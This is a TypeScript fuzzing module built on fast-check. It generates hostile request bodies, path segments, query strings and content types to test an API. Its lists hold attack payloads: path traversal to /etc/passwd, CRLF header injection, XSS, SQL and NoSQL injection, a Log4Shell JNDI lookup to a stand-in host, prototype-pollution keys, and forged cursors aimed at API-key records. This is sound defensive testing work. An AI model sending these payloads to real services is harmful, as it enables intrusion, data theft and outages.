import fc from "fast-check";
import type { Operation, Parameter } from "./contract.ts";

/** Hostile input, by kind. Each list is what an attacker (or a broken client) tries first. */
export const hostileStrings = [
  "",
  " ",
  "../../../../etc/passwd",
  "..\\..\\..\\windows\\win.ini",
  "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "/etc/passwd",
  "file.txt\r\nSet-Cookie: evil=1",
  "label\nContent-Disposition: attachment; filename=evil.exe",
  "a\u0000b",
  "line\u2028separator",
  "\u202egnp.exe",
  "con.txt",
  "\"; filename*=UTF-8''evil.exe",
  "<script>alert(1)</script>",
  "' OR '1'='1' --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell probe is meant literally
  "${jndi:ldap://evil/a}",
  "{{7*7}}",
  "😀".repeat(60),
  "Ｆｕｌｌｗｉｄｔｈ",
  "e\u0301\u0301\u0301",
  "\ud800",
  "__proto__",
  "constructor",
  "x".repeat(10_000),
];

export const hostileNumbers = [
  -1,
  0,
  -0,
  0.5,
  1.5,
  1e308,
  -1e308,
  Number.MIN_VALUE,
  2 ** 53 + 2,
  Number.MAX_SAFE_INTEGER,
  1_000_001,
  100_000_001,
];

/** Number literals JSON.stringify cannot write: 1e999 parses to Infinity, NaN is not JSON at all. */
export const rawNumberLiterals = ["1e999", "-1e999", "NaN", "Infinity", "-Infinity", "0x10", "01", "1e-999"];

export const hostileDates = [
  "9999-12-31T23:59:59Z",
  "2199-12-31T23:59:59Z",
  "2200-01-01T00:00:00Z",
  "+275760-09-13T00:00:00.000Z",
  "0000-01-01T00:00:00Z",
  "1970-01-01T00:00:00Z",
  "2000-01-01T00:00:00+14:00",
  "2024-02-30T00:00:00Z",
  "2026-13-01T00:00:00Z",
  "2030-01-01T00:00:00",
  "2030-01-01T25:61:61Z",
  "2030-01-01T00:00:00.123456789Z",
  "now",
  "tomorrow",
];

const hostileScalar = fc.oneof(
  fc.constantFrom<unknown>(...hostileStrings),
  fc.constantFrom<unknown>(...hostileNumbers),
  fc.constantFrom<unknown>(...hostileDates),
  fc.constantFrom<unknown>(null, true, false, [], {}, [1, 2], { $ne: null }, { __proto__: { admin: true } }),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.double(),
  fc.integer(),
);

/** A value that fits the schema, built from the pools of real ids where the schema asks for one. */
function validValue(schema: Record<string, unknown>, ids: IdPools): fc.Arbitrary<unknown> {
  if (Array.isArray(schema.enum)) return fc.constantFrom(...(schema.enum as unknown[]));
  switch (schema.type) {
    case "object":
      return objectOf(schema, ids, false);
    case "array": {
      const items = (schema.items ?? {}) as Record<string, unknown>;
      return fc.uniqueArray(validValue(items, ids), {
        minLength: Number(schema.minItems ?? 0),
        maxLength: Math.min(Number(schema.maxItems ?? 4), 6),
        selector: (value) => JSON.stringify(value),
      });
    }
    case "integer":
      return fc.integer({
        min: Number(schema.minimum ?? -1000),
        max: Math.min(Number(schema.maximum ?? 1_000_000), 1_000_000),
      });
    case "number":
      return fc.double({ noNaN: true, noDefaultInfinity: true });
    case "boolean":
      return fc.boolean();
    default:
      break;
  }
  if (schema.format === "date-time") {
    return fc
      .date({
        min: new Date("2027-01-01T00:00:00Z"),
        max: new Date("2199-01-01T00:00:00Z"),
        noInvalidDate: true,
      })
      .map((d) => d.toISOString());
  }
  const pattern = String(schema.pattern ?? "");
  if (pattern.includes("{16}")) return fc.oneof(fc.constantFrom(...ids.sixteen), base62(16));
  if (pattern.includes("{3}")) return fc.constantFrom("EUR", "USD", "JPY", "XXX");
  if (pattern.includes("\\/"))
    return fc.constantFrom("image/png", "text/plain", "application/pdf", "image/jpeg");
  return fc.string({
    minLength: Number(schema.minLength ?? 0),
    maxLength: Math.min(Number(schema.maxLength ?? 50), 60),
  });
}

const base62 = (length: number) =>
  fc
    .array(fc.constantFrom(..."0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"), {
      minLength: length,
      maxLength: length,
    })
    .map((chars) => chars.join(""));

function objectOf(schema: Record<string, unknown>, ids: IdPools, hostile: boolean) {
  const properties = (schema.properties ?? {}) as Record<string, Record<string, unknown>>;
  const required = new Set((schema.required ?? []) as string[]);
  const entries = Object.fromEntries(
    Object.entries(properties).map(([name, inner]) => [
      name,
      hostile
        ? fc.oneof({ weight: 3, arbitrary: validValue(inner, ids) }, hostileScalar)
        : validValue(inner, ids),
    ]),
  );
  return fc.record(entries, {
    requiredKeys: Object.keys(properties).filter((name) => required.has(name) || !hostile),
  });
}

export interface IdPools {
  /** Real 16-character ids (products, uploads) of the test's world. */
  sixteen: string[];
  /** Real path values per parameter name, e.g. link ids, key ids, order ids. */
  pathValues: Record<string, string[]>;
}

/** A JSON body as text: valid-ish objects with hostile fields, polluting keys and raw literals. */
export function bodyText(op: Operation, ids: IdPools): fc.Arbitrary<string> {
  const schema = op.bodySchema ?? { type: "object", properties: {} };
  const shaped = objectOf(schema, ids, true).map((value) => JSON.stringify(value));
  const polluted = fc
    .tuple(objectOf(schema, ids, false), fc.constantFrom("__proto__", "constructor", "prototype"))
    .map(([value, key]) => {
      const rest = JSON.stringify(value).slice(1);
      return `{"${key}":{"polluted":"yes","prototype":{"polluted":"yes"}}${rest === "}" ? "}" : `,${rest}`}`;
    });
  const rawLiteral = fc
    .tuple(objectOf(schema, ids, false), fc.constantFrom(...rawNumberLiterals))
    .map(([value, literal]) => {
      const text = JSON.stringify(value);
      // Put the literal in place of the first number, or add it as a field
      return /:-?\d+(\.\d+)?/.test(text)
        ? text.replace(/:-?\d+(\.\d+)?/, `:${literal}`)
        : `{"amount":${literal},${text.slice(1)}`;
    });
  const malformed = fc.constantFrom(
    "",
    "{",
    "}",
    "{'a':1}",
    '{"a":1,}',
    '{"a":1}garbage',
    "\ufeff{}",
    "null",
    "[]",
    '"string"',
    "42",
    "true",
    "\u0000",
    '{"a":"\\ud800"}',
    `${"[".repeat(20_000)}${"]".repeat(20_000)}`,
    `${'{"a":'.repeat(5_000)}1${"}".repeat(5_000)}`,
  );
  const randomJson = fc.jsonValue({ maxDepth: 3 }).map((value) => JSON.stringify(value));
  return fc.oneof(
    { weight: 5, arbitrary: shaped },
    { weight: 2, arbitrary: polluted },
    { weight: 1, arbitrary: rawLiteral },
    { weight: 2, arbitrary: malformed },
    { weight: 1, arbitrary: randomJson },
  );
}

export const contentTypes = fc.oneof(
  { weight: 8, arbitrary: fc.constant("application/json") },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      "application/json; charset=utf-8",
      "text/plain",
      "application/x-www-form-urlencoded",
      "multipart/form-data; boundary=x",
      "application/xml",
      "application/jsonx",
      "application/merge-patch+json",
      "APPLICATION/JSON",
      "",
      "application/json, text/plain",
    ),
  },
);

/** encodeURIComponent that also takes lone surrogates (it throws on them). */
export const encode = (value: string) =>
  encodeURIComponent(
    value.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, "\ufffd"),
  );

/** One path segment: a real id sometimes, otherwise random, encoded hostile or raw traversal. */
export function pathSegment(param: Parameter, ids: IdPools): fc.Arbitrary<string> {
  const real = ids.pathValues[param.name] ?? [];
  const encoded = fc.oneof(fc.constantFrom(...hostileStrings), fc.string({ unit: "binary", maxLength: 60 }));
  return fc.oneof(
    ...(real.length > 0 ? [{ weight: 2, arbitrary: fc.constantFrom(...real) }] : []),
    { weight: 3, arbitrary: encoded.filter((s) => s.length > 0).map(encode) },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        "..",
        "%2e%2e",
        "..%2f..%2fapi%2fkeys",
        "%252e%252e%252f",
        "%00",
        "%0d%0aSet-Cookie:%20x=1",
        "%ZZ",
        "%",
        "%E0%A4%A",
        "%C0%AE%C0%AE",
        "a%2Fb",
        "~",
        "x".repeat(5000),
        "undefined",
        "null",
      ),
    },
    { weight: 1, arbitrary: base62(16) },
    { weight: 1, arbitrary: fc.base64String({ minLength: 43, maxLength: 44 }).map((s) => s.slice(0, 43)) },
  );
}

/** A query string for the operation's parameters (plus strays), often with hostile values. */
export function queryString(op: Operation): fc.Arbitrary<string> {
  const params = op.parameters.filter((p) => p.in === "query");
  const value = (param: Parameter) =>
    param.schema.type === "integer"
      ? fc.oneof(
          fc.integer({ min: -5, max: 150 }).map(String),
          fc.constantFrom(...rawNumberLiterals, "1e308", "", " 5", "20abc", "1,2", "-0", "1.5", "٣"),
        )
      : fc.oneof(
          fc.constantFrom(...hostileStrings.filter((s) => s.length < 2000)),
          fc.string({ unit: "binary", maxLength: 80 }),
          fc.jsonValue({ maxDepth: 2 }).map((v) => Buffer.from(JSON.stringify(v)).toString("base64url")),
          fc.constantFrom(
            Buffer.from(JSON.stringify({ gsi1pk: "PRODUCTS", gsi1sk: "z", pk: "x", sk: "y" })).toString(
              "base64url",
            ),
            Buffer.from(JSON.stringify({ pk: "API_KEY#x", sk: "KEY" })).toString("base64url"),
            Buffer.from(JSON.stringify({ __proto__: { polluted: "yes" } })).toString("base64url"),
            Buffer.from("x".repeat(2000)).toString("base64url"),
          ),
        );
  const pairs = fc.array(
    fc.oneof(
      ...params.map((param) => value(param).map((v) => `${param.name}=${encode(v)}`)),
      fc.constantFrom(
        "__proto__[polluted]=yes",
        "constructor[prototype][polluted]=yes",
        "limit=1&limit=2",
        "x=%ZZ",
      ),
    ),
    { maxLength: 3 },
  );
  return pairs.map((list) => (list.length ? `?${list.join("&")}` : ""));
}
